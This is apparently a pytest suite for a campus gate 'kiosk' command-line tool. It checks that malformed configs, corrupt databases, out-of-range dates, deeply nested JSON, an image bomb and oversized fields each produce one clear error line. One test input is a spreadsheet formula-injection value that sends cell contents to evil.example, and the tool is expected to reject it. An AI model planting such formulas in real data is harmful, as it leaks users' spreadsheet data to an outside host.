"""Hostile input to the real ``kiosk`` command: a clear one-line error, never a traceback.

Each case runs the installed console script in its own process, as a user would, over files
made for it in a shared workspace, and checks: exit status not 0, exactly one line on stderr
that contains the expected explanation, and no "Traceback" on either stream.
"""

from __future__ import annotations

import os
import sqlite3
import subprocess
import sys
import threading
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.drivers.camera.bombs import png_bomb

KIOSK = Path(sys.executable).with_name("kiosk")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@dataclass(frozen=True)
class Case:
    id: str
    args: tuple[str, ...]  # "{ws}" is the workspace, "{cfg}" its good kiosk.toml
    expect: str  # a part of the one stderr line
    stdin: str = ""


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    ws = tmp_path_factory.mktemp("hostile")
    good = '[gate]\nid = "north"\n[paths]\ndata_dir = "var"\npolicy_file = "policy.toml"\n'
    (ws / "kiosk.toml").write_text(good, encoding="utf-8")
    (ws / "policy.toml").write_text('version = "test"\n', encoding="utf-8")
    _run(["--config", str(ws / "kiosk.toml"), "log", "verify"])  # creates the database
    (ws / "campus.key").write_bytes(os.urandom(32))  # the campus key, as an admin provisions it
    _run(["--config", str(ws / "kiosk.toml"), "keys", "install-campus-key", str(ws / "campus.key")])
    _run(["codes", "keygen", "--issuer", "campus", "--prefixes", "CP1", "--out", str(ws / "k")])
    (ws / "afile").write_text("not a directory\n", encoding="utf-8")
    (ws / "folder").mkdir()

    def config(name: str, text: str) -> None:
        (ws / f"{name}.toml").write_text(text, encoding="utf-8")

    (ws / "not-utf8.toml").write_bytes(b'[gate]\nid = "\xff\xfe"\n')
    config("half-written", '[gate]\nid = "nor')
    config("wrong-type", "[gate]\nid = 5\n")
    config("unknown-key", '[gate]\nidd = "north"\n')
    config("bad-zone", '[gate]\ntime_zone = "Mars/Olympus_Mons"\n')
    config("bad-url", '[paths]\ndatabase_url = "not a url"\n')
    config("no-pixels", "[camera]\nmax_pixels = 0\n")
    config("dir-is-file", '[paths]\ndata_dir = "afile"\n')
    config("db-under-file", f'[paths]\ndatabase_url = "sqlite:///{ws}/afile/sub/kiosk.db"\n')
    config("no-driver", '[paths]\ndatabase_url = "postgresql://gate:pw@127.0.0.1:1/kiosk"\n')
    for name in ("corrupt", "foreign"):
        config(name, f'[paths]\ndata_dir = "{name}"\n')
        (ws / name).mkdir()
    (ws / "corrupt" / "kiosk.db").write_bytes(os.urandom(8192))
    config("damaged", '[paths]\ndata_dir = "damaged"\n')
    _run(["--config", str(ws / "damaged.toml"), "log", "verify"])
    damaged = bytearray((ws / "damaged" / "kiosk.db").read_bytes())  # checkpointed on close
    for page in range(4096, len(damaged), 4096):  # the header page stays, every other is hit
        damaged[page + 8 : page + 512] = b"\xff" * 504
    (ws / "damaged" / "kiosk.db").write_bytes(bytes(damaged))
    foreign = sqlite3.connect(ws / "foreign" / "kiosk.db")
    foreign.execute("create table alembic_version (version_num text)")
    foreign.execute("insert into alembic_version values ('ffff0000')")
    foreign.commit()
    foreign.close()
    for name, policy in {
        "bad-regex": 'health_code.online_patterns = ["(["]\n',
        "bad-timeout": "transaction.pending_timeout_s = -1\n",
        "bad-lookback": "risk_area.lookback_days = 10000000\n",
    }.items():
        (ws / f"policy-{name}.toml").write_text(policy, encoding="utf-8")
        config(f"with-{name}", f'[paths]\ndata_dir = "var"\npolicy_file = "policy-{name}.toml"\n')
    config("window", "[thermometer]\nwindow_s = 1e308\n")
    config("long-pulse", "[relay]\npulse_ms = 99999999999\n")
    config("nul-in-path", '[paths]\ndata_dir = "var\\u0000"\n')
    config("pin-under-file", '[paths]\ndata_dir = "var"\n[admin]\npin_file = "../afile/pin"\n')
    config("key-is-folder", '[paths]\ndata_dir = "var"\nid_hmac_key_file = "../folder"\n')
    (ws / "policy-not-utf8.toml").write_bytes(b'version = "\xc3\x28"\n')
    config("with-not-utf8", '[paths]\ndata_dir = "var"\npolicy_file = "policy-not-utf8.toml"\n')

    (ws / "huge.csv").write_text(f'person_no,role,name\n"{"a" * 200_000}",student,x\n')
    (ws / "latin1.csv").write_bytes("person_no,role,name\nT1,student,Jos\xe9\n".encode("latin-1"))
    (ws / "leave-year-1.csv").write_text(
        "person_no,kind,from,until,destination_region,status\n"
        "S1,campus_exit,0001-01-01T00:00,2022-01-20T18:00,410100,approved\n"
    )
    (ws / "visit-9999.csv").write_text(
        "approval_no,name,id_number,origin_region,host_unit,host_person_no,visit_date,filed_at,"
        "status\nV1,x,410105198001011234,410100,u,T1,9999-12-31,2022-01-01T09:00,approved\n"
    )
    (ws / "year-1.json").write_text(
        '{"name": "x", "now": "0001-01-01T00:00:00+08:00", "steps": [], "expect": {}}'
    )
    deep = "[" * 100_000 + "]" * 100_000
    (ws / "deep.json").write_text(deep, encoding="utf-8")
    png_bomb(ws / "bomb.png", 32_000, 32_000)
    return ws


def _run(args: list[str], stdin: str = "") -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen", "PYTHONWARNINGS": "default"}
    return subprocess.run(
        [str(KIOSK), *args],
        input=stdin,
        capture_output=True,
        text=True,
        timeout=60,
        env=env,
        check=False,
    )


def C(id: str, *args: str, expect: str, stdin: str = "") -> Case:  # noqa: N802 - a table row
    return Case(id, args, expect, stdin)


CFG = ("--config", "{cfg}")
ISSUE = (*CFG, "codes", "issue", "campus-pass", "--key", "{ws}/k.pem", "--role", "student")
PASS = (*ISSUE, "--out", "{ws}/out/pass")
VERIFY = ("codes", "verify", "CP1:X", "--trust", "{ws}/k.trust.json")

# fmt: off
CASES = [
    # configuration files
    C("config-not-utf8", "--config", "{ws}/not-utf8.toml", "config", "check", expect="not UTF-8"),
    C("config-half-written", "--config", "{ws}/half-written.toml", "config", "check",
      expect="not valid TOML"),
    C("config-wrong-type", "--config", "{ws}/wrong-type.toml", "config", "check",
      expect="gate.id: expected string"),
    C("config-unknown-key", "--config", "{ws}/unknown-key.toml", "config", "check",
      expect="gate.idd: unknown key"),
    C("config-is-a-directory", "--config", "{ws}/folder", "config", "check", expect="cannot read"),
    C("config-missing", "--config", "{ws}/nope.toml", "config", "check", expect="file not found"),
    C("config-bad-time-zone", "--config", "{ws}/bad-zone.toml", "config", "check",
      expect="gate.time_zone"),
    C("config-bad-database-url", "--config", "{ws}/bad-url.toml", "log", "verify",
      expect="paths.database_url"),
    C("config-zero-max-pixels", "--config", "{ws}/no-pixels.toml", "scan", "{ws}/bomb.png",
      expect="camera.max_pixels: expected 1 to"),
    C("config-absurd-window", "--config", "{ws}/window.toml", "thermometer",
      expect="thermometer.window_s: expected 0.1 to 60"),
    C("config-absurd-pulse", "--config", "{ws}/long-pulse.toml", "relay", "pulse",
      expect="relay.pulse_ms: expected 100 to 10000"),
    C("config-nul-in-path", "--config", "{ws}/nul-in-path.toml", "log", "verify",
      expect="paths.data_dir: expected text without NUL"),
    C("policy-not-utf8", "--config", "{ws}/with-not-utf8.toml", "config", "check",
      expect="policy-not-utf8.toml: not UTF-8"),
    C("policy-bad-regex", "--config", "{ws}/with-bad-regex.toml", "config", "check",
      expect="health_code.online_patterns[0]: not a valid regular expression"),
    C("policy-negative-timeout", "--config", "{ws}/with-bad-timeout.toml", "config", "check",
      expect="transaction.pending_timeout_s"),
    C("policy-absurd-lookback", "--config", "{ws}/with-bad-lookback.toml", "config", "check",
      expect="risk_area.lookback_days"),
    C("policy-is-a-directory", *CFG, "policy", "test", "{ws}/deep.json", "--policy", "{ws}/folder",
      expect="cannot read"),
    # the data directory, its files and the database
    C("data-dir-is-a-file", "--config", "{ws}/dir-is-file.toml", "log", "verify",
      expect="not a directory"),
    C("database-under-a-file", "--config", "{ws}/db-under-file.toml", "registry", "status",
      expect="cannot open"),
    C("database-corrupt", "--config", "{ws}/corrupt.toml", "log", "tail",
      expect="file is not a database"),
    # SQLite says "database disk image is malformed", or "malformed database schema" when the
    # schema (with the admin indexes) reaches past the first page
    C("database-damaged-inside", "--config", "{ws}/damaged.toml", "log", "tail",
      expect="malformed"),
    C("database-of-another-program", "--config", "{ws}/foreign.toml", "registry", "status",
      expect="schema of an unknown version"),
    C("database-server-unreachable", "--config", "{ws}/no-driver.toml", "log", "verify",
      expect="database postgresql://gate:***@127.0.0.1:1/kiosk"),
    C("campus-key-is-a-directory", "--config", "{ws}/key-is-folder.toml", "keys", "show",
      expect="is a directory, not a campus key file"),
    C("pin-file-under-a-file", "--config", "{ws}/pin-under-file.toml", "admin", "set-pin",
      "--stdin", stdin="246813\n", expect="cannot write"),
    C("demo-data-dir-is-a-file", *CFG, "demo", "--data-dir", "{ws}/afile",
      expect="not a directory"),
    # registry import
    C("import-huge-field", *CFG, "registry", "import", "people", "{ws}/huge.csv",
      expect="field larger than field limit"),
    C("import-directory", *CFG, "registry", "import", "people", "{ws}/folder",
      expect="is a directory"),
    C("import-missing-file", *CFG, "registry", "import", "people", "{ws}/nope.csv",
      expect="file not found"),
    C("import-not-utf8", *CFG, "registry", "import", "people", "{ws}/latin1.csv",
      expect="not UTF-8"),
    C("import-leave-from-year-1", *CFG, "registry", "import", "leaves", "{ws}/leave-year-1.csv",
      expect="column 3 (from): expected a date from 1970-01-01 to 9998-12-31, got 0001-01-01"),
    C("import-visit-in-year-9999", *CFG, "registry", "import", "visits", "{ws}/visit-9999.csv",
      expect="column 7 (visit_date): expected a date from 1970-01-01"),
    C("import-unknown-kind", *CFG, "registry", "import", "pets", "{ws}/huge.csv",
      expect="invalid choice"),
    # log export, purge, tail
    C("export-year-1", *CFG, "log", "export", "--from", "0001-01-01", "--to", "2022-01-01",
      expect="expected a date from 1970-01-01"),
    C("export-year-9999", *CFG, "log", "export", "--from", "2022-01-01", "--to", "9999-12-31",
      expect="expected a date from 1970-01-01"),
    C("export-not-a-date", *CFG, "log", "export", "--from", "2022-02-30", "--to", "2022-03-01",
      expect="expected a date YYYY-MM-DD"),
    C("export-to-before-from", *CFG, "log", "export", "--from", "2022-02-01", "--to", "2022-01-01",
      expect="--to is before --from"),
    C("export-path-missing", *CFG, "log", "export", "--from", "2022-01-01", "--to", "2022-01-02",
      "--out", "{ws}/no/such/dir/x.csv", expect="no directory"),
    C("export-path-is-a-directory", *CFG, "log", "export", "--from", "2022-01-01", "--to",
      "2022-01-02", "--out", "{ws}/folder", expect="it is a directory"),
    C("purge-limits-contradict", *CFG, "log", "purge", "--retention-days", "100",
      "--hard-max-days", "10", expect="shorter than --retention-days"),
    C("purge-negative", *CFG, "log", "purge", "--retention-days", "-5", expect="0–36500"),
    C("purge-absurd", *CFG, "log", "purge", "--hard-max-days", "99999999999", expect="0–36500"),
    C("tail-absurd", *CFG, "log", "tail", "-n", "99999999999999999999", expect="expected an"),
    # kiosk codes
    C("issue-absurd-validity", *PASS, "--person-no", "T1", "--valid-for", "99999999999999",
      expect="--valid-for: expected an integer 1–"),
    C("issue-zero-validity", *PASS, "--person-no", "T1", "--valid-for", "0",
      expect="--valid-for"),
    C("issue-year-1", *PASS, "--person-no", "T1", "--iat", "0001-01-01T00:00+08:00",
      expect="expected a date from 1970-01-01"),
    C("issue-year-9999", *PASS, "--person-no", "T1", "--iat", "9999-12-31T23:00+00:00",
      expect="expected a date from 1970-01-01"),
    C("issue-formula-person-no", *PASS, "--person-no", FORMULA,
      expect="not a valid person number"),
    C("issue-huge-person-no", *PASS, "--person-no", "T" * 100_000,
      expect="not a valid person number"),
    C("issue-control-in-approval-no", *CFG, "codes", "issue", "visit-slip", "--key", "{ws}/k.pem",
      "--out", "{ws}/out/slip", "--approval-no", "V-\x01", expect="not a valid approval number"),
    C("issue-key-is-a-directory", *ISSUE, "--out", "{ws}/out/p", "--person-no", "T1", "--key",
      "{ws}/folder", expect="cannot load key"),
    C("issue-out-under-a-file", *ISSUE, "--person-no", "T1", "--out", "{ws}/afile/pass",
      expect="cannot write"),
    C("keygen-year-1", "codes", "keygen", "--issuer", "x", "--prefixes", "CP1", "--out",
      "{ws}/out/k2", "--not-after", "0001-01-01T00:00+00:00", expect="expected a date from"),
    C("keygen-ends-before-it-starts", "codes", "keygen", "--issuer", "x", "--prefixes", "CP1",
      "--out", "{ws}/out/k3", "--not-before", "2030-01-01T00:00+00:00", "--not-after",
      "2020-01-01T00:00+00:00", expect="--not-after must be later"),
    C("verify-deep-json-trust-list", "codes", "verify", "CP1:X", "--trust", "{ws}/deep.json",
      expect="nested too deeply"),
    C("verify-trust-list-is-a-directory", "codes", "verify", "CP1:X", "--trust", "{ws}/folder",
      expect="cannot read trust list"),
    C("verify-absurd-skew", *VERIFY, "--skew", "999999999999999", expect="--skew"),
    C("verify-year-9999", *VERIFY, "--now", "9999-12-31T23:59+00:00",
      expect="expected a date from"),
    # scenarios, scans, devices
    C("policy-test-deep-json", *CFG, "policy", "test", "{ws}/deep.json",
      expect="nested too deeply"),
    C("policy-test-now-year-1", *CFG, "policy", "test", "{ws}/year-1.json",
      expect="now: expected a date from 1970-01-01"),
    C("policy-test-no-scenarios", *CFG, "policy", "test", "{ws}/folder",
      expect="no scenario files"),
    C("scan-image-bomb", *CFG, "scan", "{ws}/bomb.png", expect="1 of 1 files unreadable"),
    C("scan-directory", *CFG, "scan", "{ws}/folder", expect="1 of 1 files unreadable"),
    C("scan-negative-budget", *CFG, "scan", "--budget-ms", "-1", "{ws}/bomb.png",
      expect="--budget-ms"),
    C("thermometer-scale-zero", *CFG, "thermometer", "--protocol", "modbus-rtu", "--option",
      "scale=0", expect="option 'scale'"),
    C("thermometer-option-without-value", *CFG, "thermometer", "--option", "scale",
      expect="KEY=VALUE"),
    C("thermometer-absurd-window", *CFG, "thermometer", "--window", "1e308", expect="--window"),
    C("thermometer-nan-offset", *CFG, "thermometer", "--offset", "nan", expect="--offset"),
    C("relay-channel-zero", *CFG, "relay", "pulse", "--channel", "0", expect="--channel"),
    C("relay-absurd-pulse", *CFG, "relay", "pulse", "--ms", "99999999999", expect="--ms"),
    C("admin-short-pin", *CFG, "admin", "set-pin", "--stdin", stdin="12\n", expect="at least"),
    C("demo-negative-filler", *CFG, "demo", "--filler", "-1", expect="--filler"),
    C("unknown-command", "fly", expect="invalid choice"),
    C("no-command", expect="required"),
]
# fmt: on


def test_case_ids_are_unique() -> None:
    assert len({c.id for c in CASES}) == len(CASES) >= 40


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_hostile_input_gets_one_clear_line(ws: Path, case: Case) -> None:
    args = [a.replace("{ws}", str(ws)).replace("{cfg}", str(ws / "kiosk.toml")) for a in case.args]
    result = _run(args, case.stdin)
    assert "Traceback" not in result.stdout + result.stderr, result.stderr
    assert result.returncode != 0
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    assert case.expect in lines[0]
    assert "unexpected error" not in lines[0]


FAULTY_KIOSK = """
import sys
import threading
import kiosk.cli
import kiosk.commands.config as command


def run_show(args):
    raise RuntimeError("a defect\\nover two lines")


command.run_show = run_show
sys.exit(kiosk.cli.main(sys.argv[1:]))
"""


@pytest.mark.parametrize("debug", [False, True])
def test_an_unexpected_error_is_one_line_with_the_traceback_only_under_debug(debug: bool) -> None:
    args = ["--debug"] if debug else []
    result = subprocess.run(
        [sys.executable, "-c", FAULTY_KIOSK, *args, "config", "show"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 70
    last = result.stderr.splitlines()[-1]
    assert last == (
        "kiosk: unexpected error: RuntimeError: a defect over two lines "
        "(run with --debug for the traceback)"
    )
    assert ("Traceback" in result.stderr) is debug
    if not debug:
        assert result.stderr.count("\n") == 1


DYING_THREAD_KIOSK = """
import sys
import threading
import threading
import kiosk.cli
import kiosk.commands.config as command


def run_show(args):
    def work():
        raise ZeroDivisionError("float division by zero")

    worker = threading.Thread(target=work, name="thermometer-reader")
    worker.start()
    worker.join()
    return 0


command.run_show = run_show
sys.exit(kiosk.cli.main(sys.argv[1:]))
"""


def test_a_worker_thread_dying_is_reported_in_one_line_not_a_traceback() -> None:
    result = subprocess.run(
        [sys.executable, "-c", DYING_THREAD_KIOSK, "config", "show"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert "Traceback" not in result.stderr
    (line,) = result.stderr.splitlines()
    assert line.endswith(
        "thread thermometer-reader stopped: ZeroDivisionError: float division by zero "
        "(run with --debug for the traceback)"
    )


def test_main_leaves_the_thread_hook_as_it_found_it(capsys) -> None:
    from kiosk.cli import main

    before = threading.excepthook
    assert main(["config", "show"]) == 0
    assert threading.excepthook is before
    capsys.readouterr()
